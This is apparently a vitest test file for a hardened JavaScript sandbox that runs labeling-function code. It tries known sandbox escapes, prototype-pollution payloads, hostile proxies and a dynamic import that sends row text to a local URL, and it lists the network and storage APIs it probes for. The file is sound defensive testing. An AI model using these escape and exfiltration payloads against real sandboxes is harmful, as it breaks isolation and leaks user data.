/**
 * The LF sandbox under attack (runs in the hardened vitest project, as in an isolated LF
 * worker): code LFs reach only the frozen JavaScript built-ins, their row and the helpers; one LF
 * cannot change what another computes; whatever LF code hands back is read without trusting it.
 */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { hardenedSandbox } from './hardened-realm.ts';
import { LfRuntime } from './runtime.ts';
import { clipText, NO_SANDBOX } from './sandbox.ts';
import type { LfDef, Row } from './types.ts';

const sandbox = hardenedSandbox();
const classes = ['ham', 'spam'];
let nextId = 0;
const code = (source: string, name = `c${nextId++}`): LfDef => ({ id: name, name, enabled: true, kind: 'code', source });
const regex = (pattern: string, name = `r${nextId++}`): LfDef => ({
  id: name,
  name,
  enabled: true,
  kind: 'regex',
  label: 'spam',
  pattern,
  flags: 'i',
});
const keyword = (word: string, name = `k${nextId++}`): LfDef => ({
  id: name,
  name,
  enabled: true,
  kind: 'keyword',
  label: 'ham',
  keywords: [word],
  mode: 'any',
  match: 'word',
  caseSensitive: false,
});

const TEXTS = [
  'Check out my channel',
  'great song',
  'FREE gift, subscribe now',
  'i love this song 2012',
  'visit http://spam.example',
  'nice',
];
const rowsOf = (texts: readonly string[]): Row[] => texts.map((text, i) => ({ text, n: i, meta: { tags: ['a', 'b'], score: i } }));

function run(defs: LfDef[], texts: readonly string[] = TEXTS) {
  const rt = LfRuntime.fromDefs(defs, classes, { sandbox });
  const r = rt.applyChunk({ start: 0, rows: rowsOf(texts) });
  return {
    votes: r.lfs.map((_, j) => Array.from(r.votes.subarray(j * r.rows, (j + 1) * r.rows))),
    errors: r.errors,
    compileErrors: rt.compileErrors,
  };
}

/** Globals a code LF may see: ECMAScript's own, the sandbox's confined eval/Function/Compartment, and SES's pure TextEncoder/TextDecoder. */
const ECMASCRIPT_GLOBALS = new Set([
  'globalThis',
  'Infinity',
  'NaN',
  'undefined',
  'eval',
  'isFinite',
  'isNaN',
  'parseFloat',
  'parseInt',
  'decodeURI',
  'decodeURIComponent',
  'encodeURI',
  'encodeURIComponent',
  'escape',
  'unescape',
  'Object',
  'Function',
  'Boolean',
  'Symbol',
  'Error',
  'AggregateError',
  'EvalError',
  'RangeError',
  'ReferenceError',
  'SyntaxError',
  'TypeError',
  'URIError',
  'Number',
  'BigInt',
  'Math',
  'Date',
  'String',
  'RegExp',
  'Array',
  'Int8Array',
  'Uint8Array',
  'Uint8ClampedArray',
  'Int16Array',
  'Uint16Array',
  'Int32Array',
  'Uint32Array',
  'Float32Array',
  'Float64Array',
  'BigInt64Array',
  'BigUint64Array',
  'Float16Array',
  'Map',
  'Set',
  'WeakMap',
  'WeakSet',
  'ArrayBuffer',
  'SharedArrayBuffer',
  'DataView',
  'Atomics',
  'JSON',
  'Promise',
  'Reflect',
  'Proxy',
  'Intl',
  'WeakRef',
  'FinalizationRegistry',
  'Iterator',
  'AsyncIterator',
  'Compartment',
  'harden',
  'assert',
  'HandledPromise',
  'ModuleSource',
  'TextEncoder',
  'TextDecoder',
  'lockdown',
  'repairIntrinsics',
  'hardenIntrinsics',
  'console',
  'Temporal',
  'Float16Array',
]);

describe('what a code LF can reach', () => {
  it('only ECMAScript globals: no worker, network, storage, font or file-system API (an allowlist)', () => {
    const rt = LfRuntime.fromDefs([code(`(x) => { throw new Error(Object.getOwnPropertyNames(globalThis).join(',')); }`)], classes, {
      sandbox,
    });
    const msg = rt.applyChunk({ start: 0, rows: [{ text: 'a' }] }).errors[0]?.message ?? '';
    const names = msg.replace(/^threw /, '').split(',');
    expect(names.length).toBeGreaterThan(20);
    expect(names.filter((n) => !ECMASCRIPT_GLOBALS.has(n))).toEqual([]);
    for (const n of ['lockdown', 'repairIntrinsics', 'hardenIntrinsics', 'console']) expect(names).not.toContain(n);
  });

  it('every capability the attacks used is undefined inside an LF', () => {
    const probes = [
      'self',
      'postMessage',
      'reportError',
      'fetch',
      'XMLHttpRequest',
      'WebSocket',
      'WebSocketStream',
      'WebTransport',
      'EventSource',
      'FontFace',
      'fonts',
      'webkitRequestFileSystemSync',
      'webkitRequestFileSystem',
      'indexedDB',
      'IDBDatabase',
      'IDBObjectStore',
      'IDBFactory',
      'caches',
      'importScripts',
      'Worker',
      'SharedWorker',
      'BroadcastChannel',
      'MessageChannel',
      'navigator',
      'location',
      'process',
      'require',
      'module',
      'setTimeout',
      'queueMicrotask',
      'structuredClone',
      'Blob',
      'URL',
    ];
    const src = `(x) => { const seen = [${probes.map((p) => `typeof ${p} !== 'undefined' ? '${p}' : ''`).join(', ')}].filter(Boolean); if (seen.length) throw new Error(seen.join()); return 'ham'; }`;
    const { votes, errors } = run([code(src)]);
    expect(errors[0]).toBeNull();
    expect(votes[0].every((v) => v === 0)).toBe(true);
  });

  it('the usual escapes find nothing: Function from a row, from a function, from an error', () => {
    const escapes = [
      `(x) => x.constructor.constructor('return this')()`,
      `(x) => (() => {}).constructor('return typeof process')()`,
      `(x) => Function('return this')().fetch`,
      `(x) => (function () { return this; })()?.postMessage`,
      `(x) => new Error().constructor.constructor('return self')()`,
      `(x) => Reflect.getPrototypeOf(async function () {}).constructor('return 1')`,
    ];
    const { votes, errors } = run(escapes.map((s) => code(s)));
    escapes.forEach((_, j) => {
      // Each either throws or finds nothing callable; none yields a vote from a realm object.
      expect(votes[j].every((v) => v === -1)).toBe(true);
      if (errors[j]) expect(errors[j]!.message).not.toMatch(/object Window|DedicatedWorkerGlobalScope/);
    });
  });

  it('a dynamic import() is refused when the LF compiles', () => {
    const { compileErrors, votes } = run([code(`(x) => { import('http://127.0.0.1:9/?d=' + x.text); return null; }`), keyword('song')]);
    expect(compileErrors[0]?.message).toMatch(/^LF code may not contain 'import\(' — LFs cannot load code/);
    expect(votes[1]).toEqual([-1, 0, -1, 0, -1, -1]);
  });

  it('an HTML-like comment, which SES refuses anywhere, gets a sentence saying so', () => {
    const { compileErrors } = run([code(`(x) => x.text.includes('<!--') ? 'spam' : null`)]);
    expect(compileErrors[0]?.message).toMatch(/^LF code may not contain '<!--'/);
  });

  it('no clock and no randomness: an LF that asks gets an error, not a vote', () => {
    const { errors } = run([
      code(`(x) => Date.now() % 2`),
      code(`(x) => Math.random() < 0.5 ? 1 : 0`),
      code(`(x) => new Date().getTime() % 2`),
    ]);
    for (const e of errors) expect(e?.count).toBe(TEXTS.length);
  });

  it('compromise documents are not handed out (nlp(x) throws and says why)', () => {
    const { errors } = run([code(`(x) => nlp(x).people().length ? 'ham' : null`)]);
    expect(errors[0]?.message).toMatch(/nlp\(x\) is not available to LFs/);
  });

  it('without a sandbox a code LF does not compile; templates still run', () => {
    const rt = LfRuntime.fromDefs([code(`(x) => 'ham'`), keyword('song')], classes);
    expect(rt.compileErrors[0]?.message).toBe(NO_SANDBOX);
    const r = rt.applyChunk({ start: 0, rows: rowsOf(TEXTS) });
    expect(Array.from(r.votes.subarray(TEXTS.length))).toEqual([-1, 0, -1, 0, -1, -1]);
  });
});

describe('one LF cannot change what another computes', () => {
  it('RegExp.prototype.test = () => true fails that LF; a later regex LF keeps its true coverage', () => {
    const clean = run([regex('subscribe|channel'), code(`(x) => /song/.test(x.text) ? 'ham' : null`)]);
    const attacked = run([
      code(`(x) => { RegExp.prototype.test = () => true; return null; }`),
      regex('subscribe|channel'),
      code(`(x) => /song/.test(x.text) ? 'ham' : null`),
    ]);
    expect(attacked.errors[0]?.count).toBe(TEXTS.length);
    expect(attacked.votes.slice(1)).toEqual(clean.votes);
    expect(clean.votes[0]).toEqual([1, -1, 1, -1, -1, -1]);
  });

  /** LF sources that try to leave something behind for the LFs that run after them. */
  const ADVERSARIES = [
    `(x) => { RegExp.prototype.test = () => true; return null; }`,
    `(x) => { String.prototype.includes = () => true; return null; }`,
    `(x) => { Array.prototype.some = () => true; return null; }`,
    `(x) => { Object.defineProperty(Object.prototype, 'text', { get: () => 'free gift' }); return null; }`,
    `(x) => { globalThis.words = () => ['free']; return null; }`,
    `(x) => { x.text = 'song'; return null; }`,
    `(x) => { x.meta.tags.push('spam'); x.meta.score = 99; return null; }`,
    `(x) => { words(x).push('song'); return null; }`,
    `(x) => { tokens(x).length = 0; return null; }`,
    `(x) => { words.cache = 1; lower.call = () => 'song'; return null; }`,
    `(x) => { classes.ham = 1; classes.spam = 0; return null; }`,
    `(x) => { JSON.parse = () => 1; Math.max = () => 0; return null; }`,
    `(x) => { Symbol.prototype.toString = () => 'x'; Number.prototype.toFixed = () => '1'; return null; }`,
    `(x) => { const o = Object.getPrototypeOf(x); o.evil = 1; return null; }`,
  ];
  const ORDINARY = [
    `(x) => words(x).includes('song') ? 'ham' : null`,
    `(x) => /free|subscribe/i.test(x.text) ? SPAM : ABSTAIN`,
    `(x) => x.meta.tags.length > 2 || x.meta.score > 50 ? 'spam' : x.n % 2 === 0 ? null : 'ham'`,
    `(x) => tokens(x).length > 3 ? classes.spam : null`,
    `(x) => lower(x).includes('check') ? 1 : x.evil ? 0 : null`,
    `(x) => [1, 2].some((v) => v > 1) && x.text.includes('zzz') ? 'spam' : null`,
    `(x) => JSON.parse('[1]')[0] === 1 && Math.max(1, 2) === 2 ? null : 'spam'`,
  ];

  it('property: each ordinary LF votes as it does alone, whatever adversaries run before, between or after it', () => {
    const alone = new Map(ORDINARY.map((src) => [src, run([code(src)]).votes[0]]));
    const templates = [regex('song'), keyword('love')];
    const templatesAlone = run(templates).votes;
    fc.assert(
      fc.property(
        fc.array(
          fc.oneof(
            fc.constantFrom(...ADVERSARIES.map((s) => ({ adv: true, s }))),
            fc.constantFrom(...ORDINARY.map((s) => ({ adv: false, s }))),
          ),
          { minLength: 1, maxLength: 12 },
        ),
        (picks) => {
          const defs = [...picks.map((p) => code(p.s)), ...templates];
          const { votes } = run(defs);
          picks.forEach((p, j) => {
            if (!p.adv) expect(votes[j]).toEqual(alone.get(p.s));
          });
          expect(votes.slice(picks.length)).toEqual(templatesAlone);
        },
      ),
      { seed: 20261207, numRuns: 150 },
    );
  });
});

describe('what leaves LF code is bounded and read without trust', () => {
  it('a 20-million-character error is cut to a few KB that state the full length', () => {
    const { errors } = run([code(`(x) => { throw new Error('A'.repeat(2e7)); }`), code(`(x) => { throw 'B'.repeat(3e6); }`)]);
    expect(errors[0]!.message.length).toBeLessThan(2100);
    expect(errors[0]!.message).toMatch(/20,000,000 characters in all/);
    expect(errors[1]!.message.length).toBeLessThan(2100);
    expect(errors[1]!.message).toMatch(/3,000,000 characters in all/);
  });

  it('hostile thrown and returned values: proxies, throwing getters, toString', () => {
    const hostile = [
      `(x) => { throw { get message() { throw new Error('gotcha'); }, toString() { throw new Error('no'); } }; }`,
      `(x) => { throw new Proxy({}, { get() { throw new Error('trap'); }, getPrototypeOf() { throw new Error('trap'); }, getOwnPropertyDescriptor() { throw new Error('trap'); } }); }`,
      `(x) => { const r = Proxy.revocable({}, {}); r.revoke(); throw r.proxy; }`,
      `(x) => new Proxy({}, { getPrototypeOf() { throw new Error('trap'); } })`,
      `(x) => { const e = new Error('short'); Object.defineProperty(e, 'name', { get() { throw new Error('x'); } }); throw e; }`,
      `(x) => ({ valueOf: () => 1, toString: () => 'spam' })`,
      `(x) => { throw Symbol('s'); }`,
    ];
    const { errors, votes } = run([...hostile.map((s) => code(s)), keyword('song')]);
    hostile.forEach((_, j) => {
      expect(errors[j]?.count).toBe(TEXTS.length);
      expect(typeof errors[j]?.message).toBe('string');
      expect(errors[j]!.message.length).toBeLessThan(2100);
      expect(votes[j].every((v) => v === -1)).toBe(true);
    });
    expect(votes[hostile.length]).toEqual([-1, 0, -1, 0, -1, -1]);
  });

  it('clipText keeps short text and states the length of long text', () => {
    expect(clipText('short')).toBe('short');
    expect(clipText('x'.repeat(10), 4)).toBe('xxxx… (10 characters in all)');
  });
});
